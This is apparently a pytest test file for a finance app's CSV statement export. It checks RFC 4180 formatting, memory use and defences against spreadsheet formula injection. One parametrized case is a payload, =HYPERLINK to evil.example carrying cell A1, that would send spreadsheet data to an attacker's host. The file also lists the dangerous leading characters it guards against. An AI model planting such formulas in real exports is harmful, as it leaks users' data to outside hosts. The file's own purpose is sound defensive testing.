"""CSV of a statement: what RFC 4180 says, and no cell that a spreadsheet runs."""

import csv
import datetime as dt
import io
import tracemalloc
from collections.abc import Iterator
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from moneyflow.platform.ids import new_id
from moneyflow.statements.writing import csv_text
from moneyflow.statements.writing.statement import Entry

_DANGEROUS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _entry(note: str = "", *, category: str = "", tags: tuple[str, ...] = (), amount: str = "12.30") -> Entry:
    return Entry(
        id=new_id(),
        date=dt.date(2026, 2, 28),
        kind="expense",
        amount=Decimal(amount),
        currency="EUR",
        category=category,
        note=note,
        tags=tags,
    )


def _written(*entries: Entry) -> str:
    return b"".join(csv_text.pieces([list(entries)])).decode("utf-8-sig")


def _cells(text: str) -> list[str]:
    """Return the texts of the one line, as a reader of RFC 4180 reads them."""
    _, line = csv.reader(io.StringIO(text, newline=""), strict=True)
    return line[3:6]


def test_it_begins_with_the_mark_of_utf_8_and_each_line_ends_with_cr_lf() -> None:
    content = b"".join(csv_text.pieces([[_entry("zwei Käse")], [_entry()]]))

    assert content.startswith(b"\xef\xbb\xbfdate,amount,currency,category,note,tags,kind,id\r\n")
    assert content.count(b"\r\n") == content.count(b"\n") == 3
    assert "zwei Käse".encode() in content


def test_an_amount_is_a_number_with_its_sign() -> None:
    assert "2026-02-28,-12.30,EUR," in _written(_entry())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://evil.example?x="&A1)', '\'=HYPERLINK("http://evil.example?x="&A1)'),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("  =1", "'  =1"),
        ("a;=1+1", "a;'=1+1"),
        ("a\n=1+1", "a\n'=1+1"),
        ('x",=1', "x\",'=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a = b - c", "a = b - c"),
        ("two loaves", "two loaves"),
        ("", ""),
    ],
)
def test_a_text_that_is_a_formula_gets_an_apostrophe(text: str, expected: str) -> None:
    assert _cells(_written(_entry(text, category=text))) == [expected, expected, ""]


@given(st.text(alphabet="ab =+-@,;\t\"'\n|\uff1d", max_size=40))
@example('";=1')
@example("a,\"'=1")
def test_no_cell_begins_a_formula_whatever_a_spreadsheet_takes_for_the_separator(text: str) -> None:
    written = _written(_entry(text))

    assert _cells(written)[1].replace("'", "") == text.replace("'", ""), "nothing but apostrophes was added"
    *_, line = written.removesuffix("\r\n").partition("\r\n")[2].partition("EUR,")
    for separator in ",;\t|\n":
        for cell in line.split(separator):
            assert not cell.lstrip(' "').startswith(_DANGEROUS[:4] + _DANGEROUS[6:]), (separator, cell)


def test_a_million_lines_are_written_in_the_memory_of_a_few() -> None:
    pieces = 100  # As many as are looked at; each has 2000 lines, and is forgotten before the next.

    def many() -> Iterator[list[Entry]]:
        for _ in range(pieces):
            yield [_entry("two loaves", category="Groceries", tags=("weekend",))] * 2000

    tracemalloc.start()
    written = sum(len(piece) for piece in csv_text.pieces(many()))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert written > 15_000_000
    assert peak < 3_000_000
